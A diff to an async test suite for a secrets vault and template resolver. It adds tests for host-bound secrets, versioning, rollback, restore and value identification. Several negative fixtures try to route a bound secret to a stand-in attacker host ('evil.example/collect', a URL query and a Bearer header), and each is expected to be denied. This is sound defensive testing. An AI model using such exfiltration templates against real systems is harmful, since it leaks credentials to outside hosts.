@@ -179,6 +179,23 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
         "create moved",
         admin.CreateSecret(spb.CreateSecretRequest(name="canary_moved", value=value)),
     )
+    await ex.ok(
+        "create bound",
+        admin.CreateSecret(
+            spb.CreateSecretRequest(
+                name="canary_bound", value=value, allowed_hosts=["api.example.com"]
+            )
+        ),
+    )
+    await ex.fails(
+        "widen hosts without a value",
+        admin.UpdateSecret(
+            spb.UpdateSecretRequest(
+                name="canary_bound", allowed_hosts=spb.HostList(hosts=["evil.example"])
+            )
+        ),
+        Code.FAILED_PRECONDITION,
+    )
     for label, request, code in [
         ("duplicate", spb.CreateSecretRequest(name="CANARY_KEY", value=value), Code.ALREADY_EXISTS),
         ("bad name", spb.CreateSecretRequest(name="bad name!", value=value), Code.INVALID_ARGUMENT),
@@ -246,6 +263,59 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
         "delete missing", admin.DeleteSecret(spb.DeleteSecretRequest(name="nope")), Code.NOT_FOUND
     )
     await ex.ok("delete", admin.DeleteSecret(spb.DeleteSecretRequest(name="doomed")))
+
+    # ------------------------------------------- versions, recovery and identify
+    await ex.ok(
+        "versions", viewer.ListSecretVersions(spb.ListSecretVersionsRequest(name="canary_key"))
+    )
+    await ex.ok(
+        "versions page",
+        admin.ListSecretVersions(spb.ListSecretVersionsRequest(name="canary_key", page_size=1)),
+    )
+    await ex.ok("list deleted", admin.ListSecrets(spb.ListSecretsRequest(show_deleted=True)))
+    await ex.fails(
+        "create reserved",
+        admin.CreateSecret(spb.CreateSecretRequest(name="doomed", value=value)),
+        Code.ALREADY_EXISTS,
+    )
+    await ex.ok("restore", admin.RestoreSecret(spb.RestoreSecretRequest(name="doomed")))
+    await ex.fails(
+        "restore live",
+        admin.RestoreSecret(spb.RestoreSecretRequest(name="doomed")),
+        Code.FAILED_PRECONDITION,
+    )
+    await ex.ok("identify", admin.IdentifySecretValue(spb.IdentifySecretValueRequest(value=value)))
+    await ex.ok(
+        "identify near miss",
+        admin.IdentifySecretValue(spb.IdentifySecretValueRequest(value=value + "x")),
+    )
+    await ex.fails(
+        "viewer identify",
+        viewer.IdentifySecretValue(spb.IdentifySecretValueRequest(value=value)),
+        Code.PERMISSION_DENIED,
+    )
+    await ex.ok(
+        "rollback",
+        admin.RollbackSecret(spb.RollbackSecretRequest(name="canary_key", version=1)),
+    )
+    await ex.fails(
+        "destroy current",
+        admin.DestroySecretVersion(spb.DestroySecretVersionRequest(name="canary_key", version=3)),
+        Code.FAILED_PRECONDITION,
+    )
+    await ex.ok(
+        "destroy",
+        admin.DestroySecretVersion(spb.DestroySecretVersionRequest(name="canary_key", version=2)),
+    )
+    await ex.fails(
+        "rollback destroyed",
+        admin.RollbackSecret(spb.RollbackSecretRequest(name="canary_key", version=2)),
+        Code.FAILED_PRECONDITION,
+    )
+    await ex.ok(
+        "delete for good",
+        admin.DeleteSecret(spb.DeleteSecretRequest(name="doomed", purge=True)),
+    )
 
     # ------------------------------------------------------------ ConfigService
     await ex.ok(
@@ -347,9 +417,48 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
             Code.RESOURCE_EXHAUSTED,
         ),
         ("no fields", [], Code.INVALID_ARGUMENT),
+        (
+            "bound secret to another host",
+            [field_("u", "https://evil.example/?k={{secret:canary_bound}}", URL)],
+            Code.PERMISSION_DENIED,
+        ),
+        (
+            "bound secret in a header, URL elsewhere",
+            [
+                field_("u", "https://evil.example/collect", URL),
+                field_("h", "Bearer {{secret:canary_bound}}", HEADER),
+            ],
+            Code.PERMISSION_DENIED,
+        ),
+        (
+            "bound secret without a destination",
+            [field_("h", "{{secret:canary_bound}}", HEADER)],
+            Code.PERMISSION_DENIED,
+        ),
     ]
     for label, fields, code in failing:
         await ex.fails(label, resolver.ResolveTemplate(resolve(fields)), code)
+    await ex.fails(
+        "strict near miss",
+        resolver.ResolveTemplate(
+            resolve([field_("a", "{{secret:canary_key}} {{secrets:canary_key}}")], strict=True)
+        ),
+        Code.INVALID_ARGUMENT,
+    )
+    await ex.fails(
+        "bound secret, wrong destination_host",
+        resolver.ResolveTemplate(
+            resolve([field_("h", "{{secret:canary_bound}}", HEADER)], destination_host="x.example")
+        ),
+        Code.PERMISSION_DENIED,
+    )
+    await ex.fails(
+        "bad tool",
+        resolver.ResolveTemplate(
+            rpb.ResolveTemplateRequest(fields=good_fields, inputs=good_inputs, tool="bad tool!")
+        ),
+        Code.INVALID_ARGUMENT,
+    )
     for label, denied in (("admin", admin_resolver), ("viewer", viewer_resolver)):
         await ex.fails(
             f"{label} resolve",
@@ -364,8 +473,11 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
 
     # A row whose ciphertext was moved from another secret must not decrypt (or leak).
     await vault.sql(
-        "UPDATE secrets SET wrapped_dek = s.wrapped_dek, ciphertext = s.ciphertext "
-        "FROM secrets s WHERE secrets.name = 'canary_moved' AND s.name = 'canary_key'"
+        "UPDATE secret_versions v SET wrapped_dek = o.wrapped_dek, ciphertext = o.ciphertext "
+        "FROM secrets t, secrets s, secret_versions o "
+        "WHERE t.name = 'canary_moved' AND v.secret_id = t.id "
+        "AND v.version = t.current_version AND s.name = 'canary_key' "
+        "AND o.secret_id = s.id AND o.version = s.current_version"
     )
     await ex.fails(
         "moved ciphertext",
@@ -392,7 +504,12 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
     )
     monkeypatch.setattr(vault.runtime.vault, "envelope", real)
 
-    check_fields = [*good_fields, *(f for _, fs, _ in failing[:10] for f in fs)]
+    check_fields = [
+        *good_fields,
+        *(f for _, fs, _ in failing[:10] for f in fs),
+        # suggestions (canary_key, canary_json...) and a near miss with its fix
+        field_("typo", "{{secret:canary_kye}} {{secrets:canary_key}} {{config:api_hots}}"),
+    ]
     for label, checker in (("admin", admin_resolver), ("viewer", viewer_resolver), ("r", resolver)):
         await ex.ok(
             f"{label} check", checker.CheckTemplate(rpb.CheckTemplateRequest(fields=check_fields))
